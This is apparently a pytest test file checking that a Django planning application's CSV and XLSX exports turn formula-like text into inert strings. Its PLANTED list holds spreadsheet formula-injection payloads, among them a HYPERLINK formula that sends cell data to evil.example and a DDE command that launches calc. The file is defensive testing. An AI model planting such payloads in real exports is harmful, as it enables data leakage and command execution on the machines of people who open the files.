"""Exports never carry a live formula: text from centre managers and analysts stays text."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from nara.core.models import Center
from nara.lib.exports import safe_cell
from nara.planning.demo import create_example_scenario
from tests.workspace.conftest import signed_in, user

pytestmark = pytest.mark.django_db

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Öppna")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def planted_scenario(demo):
    """Every centre named like a formula (as a centre manager could), and the scenario too."""
    for centre, name in zip(Center.objects.order_by("pk"), PLANTED * 10, strict=False):
        centre.name = name
        centre.save()
    return create_example_scenario(actor="test", municipality=demo, name="=1+1")


def test_csv_export_writes_formulas_as_text(planted_scenario):
    client = signed_in(user("ahmed"))
    for level in ("scenarios", "centres"):
        response = client.get(
            "/staff/planning/export.csv", {"ids": planted_scenario.pk, "level": level}
        )
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'=1+1" in cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    scenario_row = dict(zip(rows[0], rows[1], strict=True))
    assert float(scenario_row["lon"]) > 0  # numbers stay numbers


def test_xlsx_export_writes_formulas_as_text_and_numbers_as_numbers(planted_scenario):
    client = signed_in(user("ahmed"))
    response = client.get("/staff/planning/export.xlsx", {"ids": planted_scenario.pk})
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'=1+1" in texts
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    header = [c.value for c in book["Scenarios"][1]]
    first = dict(zip(header, [c for c in book["Scenarios"][2]], strict=True))
    assert first["annual_cost_sek"].data_type == "n" and first["staff_posts"].value == 9


def test_safe_cell_keeps_numbers_and_neutralises_formula_text():
    assert safe_cell(-5) == -5 and safe_cell(1.5) == 1.5 and safe_cell(None) == ""
    assert [safe_cell(text) for text in PLANTED] == ["'" + text for text in PLANTED]
    assert safe_cell("Hageby") == "Hageby"


def test_every_export_in_the_project_goes_through_the_shared_helper():
    """A new CSV or XLSX writer must use nara.lib.exports, or this test names it."""
    root = Path(__file__).resolve().parents[2] / "nara"
    writers = ("csv.writer", "DictWriter", "Workbook(", "openpyxl", "xlsxwriter")
    # Rewrites an uploaded travel-time file for the solver's reader; no person opens it.
    internal = {"lib/spreadsheets.py"}
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "exports.py" or path.parent.name != "lib"
        if any(w in path.read_text(encoding="utf-8") for w in writers)
    ]
    assert set(offenders) - internal == set()


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True
